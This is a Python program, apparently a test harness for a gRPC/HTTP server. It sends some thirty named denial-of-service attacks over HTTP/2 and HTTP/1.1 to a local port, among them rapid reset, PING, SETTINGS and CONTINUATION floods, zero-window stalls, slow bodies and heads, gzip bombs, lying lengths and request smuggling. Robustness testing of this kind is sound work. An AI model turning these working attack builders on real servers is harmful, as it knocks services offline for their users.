"""Hostile clients of HTTP/2 and HTTP/1.1, as a program: each attack as what it sends.

``hostile_h2.py PORT ATTACK`` attacks from three connections until its standard input ends, and
says ``begun`` when all have begun; those that hold something, when they hold it. It gives way to
others and is as fast as a network: what it costs is what the server spends on it, and not what it
takes from the machine itself.
"""

from __future__ import annotations

import contextlib
import dataclasses
import functools
import gzip
import itertools
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

from support.broken_clients import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    SETTINGS,
    WINDOW_UPDATE,
    body,
    frame,
    idle_connection,
    reset,
)
from support.counted_load import INFER
from support.hostile_http import HOSTILE
from support.http_by_hand import GOOD, HOST, post
from support.requests_by_hand import SERVICE, pictures, png_bomb

CONTINUATION, RST_STREAM = 9, 3
WATCH, CHECK = "/grpc.health.v1.Health/Watch", "/grpc.health.v1.Health/Check"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
MIB = 2**20
#: as many as a connection may have at most, whatever the queue
_STREAMS = 1024
_CONNECTIONS = 3
#: so often come the pieces of a flood, and the connections of those that come again
_EVERY_S, _AGAIN_S = 0.02, 0.1
_FLOOD_BYTES = 4000
#: heads of requests that come at once
_HEADS = 512
#: yielded by who holds from now on what it came for
HOLDS = b""


def fields(path: str = INFER, content_type: str = "application/grpc") -> bytes:
    """A request's fields, in HPACK's plainest form."""
    named = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "127.0.0.1",
        "te": "trailers",
        "content-type": content_type,
    }
    return b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in named.items()
    )


def opened(stream: int, path: str = INFER, more: bytes = b"", flags: int = END_HEADERS) -> bytes:
    """The head of a request."""
    return frame(HEADERS, flags, stream, fields(path) + more)


def streams(count: int = _STREAMS) -> Iterator[int]:
    """The first streams of a client."""
    return iter(range(1, 2 * count, 2))


def rapid_reset() -> Iterator[bytes]:
    for stream in streams(10_000):
        yield opened(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8)) * 1000


def settings() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535) * 10) * 200


def continuation() -> Iterator[bytes]:
    yield opened(1, flags=0)
    for _ in range(10_000):
        yield frame(CONTINUATION, 0, 1, b"\0\1x\0")


def many_headers() -> Iterator[bytes]:
    whole = fields() + b"\0\1x\1y" * 30_000
    for stream in streams(50):
        yield frame(HEADERS, 0, stream, whole[:16_384])
        for at in range(16_384, len(whole), 16_384):
            last = END_HEADERS if at + 16_384 >= len(whole) else 0
            yield frame(CONTINUATION, last, stream, whole[at : at + 16_384])


def silent(path: str) -> Callable[[], Iterator[bytes]]:
    """As many streams as there may be, of which nothing comes but the head."""

    def attack() -> Iterator[bytes]:
        yield b"".join(opened(stream, path) for stream in streams())
        yield HOLDS

    return attack


def streams_beyond_the_limit() -> Iterator[bytes]:
    """Many at once, as a network brings them: one by one they would take the CPUs to send."""
    yield from _opening()


@functools.cache
def _opening() -> list[bytes]:
    """Made once, for the three connections and for each time that they come again."""
    heads = map(opened, streams(3 * _STREAMS))
    return list(iter(lambda: b"".join(itertools.islice(heads, _HEADS)), b""))


def watchers() -> Iterator[bytes]:
    for stream in streams():
        yield opened(stream, WATCH) + frame(DATA, END_STREAM, stream, body(b""))
    yield HOLDS


def half_messages() -> Iterator[bytes]:
    """Each message begins and does not end; then a byte a second of each."""
    for stream in streams():
        yield opened(stream) + frame(DATA, 0, stream, struct.pack(">BI", 0, 150_000) + b"a" * 100)
    yield HOLDS
    while True:
        time.sleep(1)
        for stream in streams():
            yield frame(DATA, 0, stream, b"a")


def half_a_frame() -> Iterator[bytes]:
    yield opened(1) + frame(DATA, 0, 1, struct.pack(">BI", 0, 150_000) + bytes(16_000))[:9_000]
    yield HOLDS


def empty_data() -> Iterator[bytes]:
    yield opened(1)
    while True:
        yield frame(DATA, 0, 1, b"") * 1000


def _with_window(window: int) -> Iterator[bytes]:
    """Pages whose answers may not leave; then a byte of each, now and then."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window))
    for stream in streams():
        path = SERVICE + "ServerMetadata"
        yield opened(stream, path) + frame(DATA, END_STREAM, stream, body(b""))
    yield HOLDS
    while True:
        time.sleep(1)
        yield b"".join(frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 1)) for s in streams())


def windows_of_nothing() -> Iterator[bytes]:
    return _with_window(0)


def tiny_windows() -> Iterator[bytes]:
    return _with_window(1)


def unread_answers() -> Iterator[bytes]:
    """Answers of 128 KB; the client's kernel takes 4 KB."""
    request = body(pictures(*[png_bomb(1, 1)] * 32))
    for stream in streams(8):
        yield opened(stream) + frame(DATA, END_STREAM, stream, request)
        time.sleep(0.5)
    yield HOLDS


def overflowing_window() -> Iterator[bytes]:
    yield opened(1)
    for _ in range(3):
        yield frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 2**31 - 1))


def more_than_the_window() -> Iterator[bytes]:
    yield opened(1) + frame(DATA, 0, 1, struct.pack(">BI", 0, 15 * MIB))
    for _ in range(1000):
        yield frame(DATA, 0, 1, bytes(16_384))


def lengths_that_lie() -> Iterator[bytes]:
    for stream, length in zip(streams(4), (2**32 - 1, 0, 7, 2**31), strict=True):
        content = struct.pack(">BI", 0, length) + b"123456"
        yield opened(stream) + frame(DATA, END_STREAM, stream, content)


@functools.cache
def _bomb() -> bytes:
    """Made once: packing it takes longer than unpacking, of the processors that the others need."""
    return b"\1" + body(gzip.compress(bytes(16 * MIB)))[1:]


def gzip_bombs() -> Iterator[bytes]:
    bomb = _bomb()
    for stream in streams(20):
        yield opened(stream, more=b"\0\x0dgrpc-encoding\x04gzip")
        for at in range(0, len(bomb), 16_384):
            ends = END_STREAM if at + 16_384 >= len(bomb) else 0
            yield frame(DATA, ends, stream, bomb[at : at + 16_384])


def garbage() -> Iterator[bytes]:
    yield bytes(range(256)) * 1000


def smuggling() -> Iterator[bytes]:
    """One of what is no HTTP, or hides a request behind another, for each connection."""
    yield next(_HOSTILE)


def _hostile() -> Iterator[bytes]:
    while True:
        yield from (sent for _, sent in HOSTILE)


_HOSTILE = _hostile()


def pipelining() -> Iterator[bytes]:
    while True:
        yield GOOD * 500


def expect_100() -> Iterator[bytes]:
    yield post(b"", b"Content-Length: 999999", b"Expect: 100-continue")
    yield HOLDS


def http_0_9() -> Iterator[bytes]:
    yield b"GET /v2/health/live\r\n"


def half_a_head() -> Iterator[bytes]:
    yield b"GET /v2 HTTP/1.1\r\n" + HOST
    yield HOLDS
    while True:
        time.sleep(1)
        yield b"X: y\r\n"


def slow_body() -> Iterator[bytes]:
    yield post(b"", b"Content-Length: 1000000")
    yield HOLDS
    while True:
        time.sleep(1)
        yield b" "


def tls_hello() -> Iterator[bytes]:
    yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(505)


@dataclasses.dataclass(frozen=True)
class Attack:
    """What is sent on a connection.

    Attributes:
        sends: what, piece by piece.
        http1: whether the connection is not to say hello in HTTP/2.
        again: whether a new connection follows on one that has sent everything.
        receive_bytes: what the attacker's kernel takes before it is read; 0: what it likes.
    """

    sends: Callable[[], Iterator[bytes]]
    http1: bool = False
    again: bool = True
    receive_bytes: int = 0


def holds(sends: Callable[[], Iterator[bytes]], **more: Any) -> Attack:
    """One that keeps its connection."""
    return Attack(sends, again=False, **more)


#: by name
ATTACKS: dict[str, Attack] = {
    "rapid reset": Attack(rapid_reset),
    "PING flood": Attack(pings),
    "SETTINGS flood": Attack(settings),
    "CONTINUATION flood": Attack(continuation),
    "header flood": Attack(many_headers),
    "empty DATA": Attack(empty_data),
    "streams beyond the limit": Attack(streams_beyond_the_limit),
    "silent streams": holds(silent(INFER)),
    "silent checks": holds(silent(CHECK)),
    "silent streams of requests": holds(silent(SERVICE + "ModelStreamInfer")),
    "silent reflection": holds(silent(REFLECT)),
    "watchers": holds(watchers),
    "bodies of a byte a second": holds(half_messages),
    "half a frame": holds(half_a_frame),
    "zero windows": holds(windows_of_nothing),
    "tiny windows": holds(tiny_windows),
    "answers that are not read": holds(unread_answers, receive_bytes=4096),
    "a window that overflows": Attack(overflowing_window),
    "more than the window": Attack(more_than_the_window),
    "lengths that lie": Attack(lengths_that_lie),
    "gzip bombs": Attack(gzip_bombs),
    "garbage": Attack(garbage),
    "smuggling": Attack(smuggling, http1=True),
    "pipelining": Attack(pipelining, http1=True),
    "100-continue": holds(expect_100, http1=True),
    "HTTP/0.9": Attack(http_0_9, http1=True),
    "half a head": holds(half_a_head, http1=True),
    "slow bodies": holds(slow_body, http1=True),
    "TLS on the plain port": Attack(tls_hello, http1=True),
    "plain on the TLS port": Attack(pipelining, http1=True),
}


class _Attacker(threading.Thread):
    """One connection after another, or one that is held."""

    def __init__(self, port: int, attack: Attack, ended: threading.Event) -> None:
        super().__init__()
        self.begun = threading.Event()
        self._port = port
        self._attack = attack
        self._ended = ended

    def run(self) -> None:
        """Attacks until the end."""
        while not self._ended.is_set():
            with contextlib.suppress(OSError):
                self._once()
            # Closed by the server: that, too, is what it came for.
            self.begun.set()
            self._ended.wait(_AGAIN_S)

    def _once(self) -> None:
        connection = _connect(self._port, self._attack)
        try:
            connection.settimeout(1)
            for piece in self._attack.sends():
                _send(connection, piece, self._ended)
                if piece == HOLDS or self._attack.again:
                    self.begun.set()
                if self._ended.wait(_EVERY_S if len(piece) > _FLOOD_BYTES else 0):
                    return
            if not self._attack.again:
                self._ended.wait()
        finally:
            reset(connection)


def _connect(port: int, attack: Attack) -> socket.socket:
    if not attack.http1:
        return idle_connection(port, receive_bytes=attack.receive_bytes)
    return socket.create_connection(("127.0.0.1", port), timeout=10)


def _send(connection: socket.socket, piece: bytes, ended: threading.Event) -> None:
    """Sends a piece, however long the server does not take it; raises OSError."""
    rest = memoryview(piece)
    while rest and not ended.is_set():
        with contextlib.suppress(TimeoutError):
            rest = rest[connection.send(rest) :]


def main() -> None:
    """See the module."""
    os.nice(5)
    port, attack = int(sys.argv[1]), ATTACKS[sys.argv[2]]
    ended = threading.Event()
    attackers = [_Attacker(port, attack, ended) for _ in range(_CONNECTIONS)]
    for attacker in attackers:
        attacker.start()
    for attacker in attackers:
        attacker.begun.wait(30)
    print("begun", flush=True)
    sys.stdin.read()
    ended.set()
    for attacker in attackers:
        attacker.join()


if __name__ == "__main__":
    main()
